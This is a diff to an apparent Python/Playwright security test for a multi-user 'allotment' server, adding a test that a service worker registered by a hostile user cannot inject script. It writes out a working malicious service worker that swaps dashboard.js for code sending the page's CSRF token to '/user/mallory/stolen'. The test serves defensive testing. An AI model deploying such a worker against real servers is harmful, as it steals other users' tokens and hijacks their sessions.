@@ -9,7 +9,7 @@ import pytest
 from allotment_testing.broker_api import BrokerApi, broker_api
 from playwright.async_api import Browser, async_playwright
 from starlette.requests import Request
-from starlette.responses import HTMLResponse
+from starlette.responses import HTMLResponse, Response
 from starlette.routing import Route
 
 FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]
@@ -28,9 +28,33 @@ READ_IT = """async (address) => {
 }"""
 
 
+WORKER = """
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  const path = new URL(event.request.url).pathname;
+  if (path.endsWith('dashboard.js')) {
+    const script = "fetch('/user/mallory/stolen?' + document.querySelector('meta[name=allotment-csrf]').content)";
+    event.respondWith(new Response(script, { headers: { 'Content-Type': 'text/javascript' } }));
+  }
+});
+"""
+REGISTER = """async () => {
+  await navigator.serviceWorker.register('/user/mallory/worker.js', { scope: '/' });
+  await navigator.serviceWorker.ready;
+}"""
+
+
+async def worker(_request: Request) -> Response:
+    return Response(WORKER, media_type="text/javascript", headers={"Service-Worker-Allowed": "/"})
+
+
 async def hostile(request: Request) -> HTMLResponse:
     """Its sender chooses its headers, also the one that our page uses to shake openers off."""
-    return HTMLResponse("<p>Look here", headers={"Cross-Origin-Opener-Policy": request.query_params["coop"]})
+    return HTMLResponse(
+        "<p>Look here",
+        headers={"Cross-Origin-Opener-Policy": request.query_params.get("coop", "unsafe-none")},
+    )
 
 
 @pytest.fixture
@@ -39,6 +63,7 @@ async def api(tmp_path: Path) -> AsyncIterator[BrokerApi]:
         made.hub.add_user("ann")
         made.hub.signed_in_as = "ann"
         made.hub.app.router.routes.append(Route("/user/mallory/", hostile))
+        made.hub.app.router.routes.append(Route("/user/mallory/worker.js", worker))
         made.app.mount("/", made.hub.app)
         yield made
 
@@ -61,3 +86,17 @@ async def test_no_opener_reads_our_pages(api: BrokerApi, browser: Browser, coop:
         await page.goto(f"{origin}/user/mallory/?coop={coop}")
         for address in ("/services/allotment/", "/services/allotment/api/v1/me"):
             assert await page.evaluate(READ_IT, address) == "", address
+
+
+async def test_no_worker_of_another_server_runs_in_our_page(api: BrokerApi, browser: Browser) -> None:
+    async with api.served() as url:
+        context = await browser.new_context()
+        page = await context.new_page()
+        asked: list[str] = []
+        context.on("request", lambda request: asked.append(request.url))
+        await page.goto(f"{url.removesuffix('services/allotment/')}user/mallory/")
+        await page.evaluate(REGISTER)
+        async with page.expect_event("console", lambda line: "integrity" in line.text, timeout=15_000):
+            await page.goto(url)
+        assert await page.locator("meta[name=allotment-csrf]").count() == 1, "the page itself came from us"
+        assert not [one for one in asked if "stolen" in one]
